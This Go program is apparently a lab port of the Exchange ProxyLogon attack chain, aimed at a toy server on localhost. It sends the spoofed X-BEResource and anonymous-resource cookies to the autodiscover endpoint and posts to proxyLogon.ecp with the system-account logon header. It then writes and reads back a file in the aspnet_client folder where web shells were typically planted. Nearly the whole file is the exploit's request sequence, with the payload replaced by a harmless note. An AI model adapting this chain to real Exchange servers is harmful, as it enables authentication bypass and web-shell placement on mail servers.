// Go port of the lab chain with hand-built http.Request values (toy server on 127.0.0.1 only).
package main

import (
	"bytes"
	"fmt"
	"io"
	"net/http"
	"net/url"
	"os"
	"strings"
	"time"
)

type step struct {
	method string
	path   string
	query  string
	header http.Header
	body   string
}

const ua = "Mozilla/5.0 (Windows NT 10.0; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/88.0.4324.190 Safari/537.36"

func common() http.Header {
	return http.Header{
		"User-Agent":       {ua},
		"x-requested-with": {"XMLHttpRequest"},
		"Accept":           {"*/*"},
		"accept-language":  {"en-US,en;q=0.9"},
		"connection":       {"close"},
	}
}

func run(c *http.Client, host string, s step) (int, string) {
	req := &http.Request{
		Method: s.method,
		URL:    &url.URL{Scheme: "http", Host: host, Path: s.path, RawQuery: s.query},
		Header: s.header,
		Host:   host,
	}
	if s.body != "" {
		req.Body = io.NopCloser(bytes.NewBufferString(s.body))
		req.ContentLength = int64(len(s.body))
	}
	resp, err := c.Do(req)
	if err != nil {
		return 0, ""
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(io.LimitReader(resp.Body, 1024))
	return resp.StatusCode, string(b)
}

func main() {
	host := "127.0.0.1:8080"
	if len(os.Args) > 1 {
		host = "127.0.0.1:" + os.Args[1]
	}
	c := &http.Client{Timeout: 10 * time.Second}
	note := "/aspnet_client/system_web/readme_91453.txt"

	first := common()
	first["cookie"] = []string{"X-AnonResource=true; X-AnonResource-Backend=lab.invalid; X-BEResource=localhost@lab.invalid/ews/exchange.asmx?a%3D~1843073522"}
	pairs := []string{
		"Pad=" + strings.Repeat("A", 37),
		"Protocol=Autodiscoverv1",
		"Email=" + url.QueryEscape("administrator@lab.invalid/mapi/nspi"),
		"RequestId=20200302-7720",
	}
	if code, _ := run(c, host, step{"GET", "/autodiscover/autodiscover.json", strings.Join(pairs, "&"), first, ""}); code == 0 || code >= 500 {
		os.Exit(1)
	}

	code, text := run(c, host, step{
		method: "POST",
		path:   "/ecp/proxyLogon.ecp",
		header: http.Header{
			"user-agent":         {ua},
			"msexchlogonmailbox": {"S-1-5-20"},
			"content-type":       {"application/json"},
			"X-BEResource":       {"localhost@lab.invalid/ecp/proxyLogon.ecp"},
		},
		body: `{"mailbox": "administrator@lab.invalid", "requestKind": "identity", "seq": 1}`,
	})
	who := strings.TrimSpace(text)
	if code != 200 || who == "" {
		who = "anonymous"
	}

	var sb strings.Builder
	for i := 1; i <= 3; i++ {
		if i > 1 {
			sb.WriteString("\n")
		}
		fmt.Fprintf(&sb, "note %d of 3 for %s", i, who)
	}
	run(c, host, step{
		method: "POST",
		path:   note,
		header: http.Header{"user-agent": {ua}, "X-Note-Path": {note}, "Content-Type": {"text/plain"}},
		body:   sb.String(),
	})
	_, back := run(c, host, step{method: "GET", path: note, header: common()})
	fmt.Println(len(back))
}
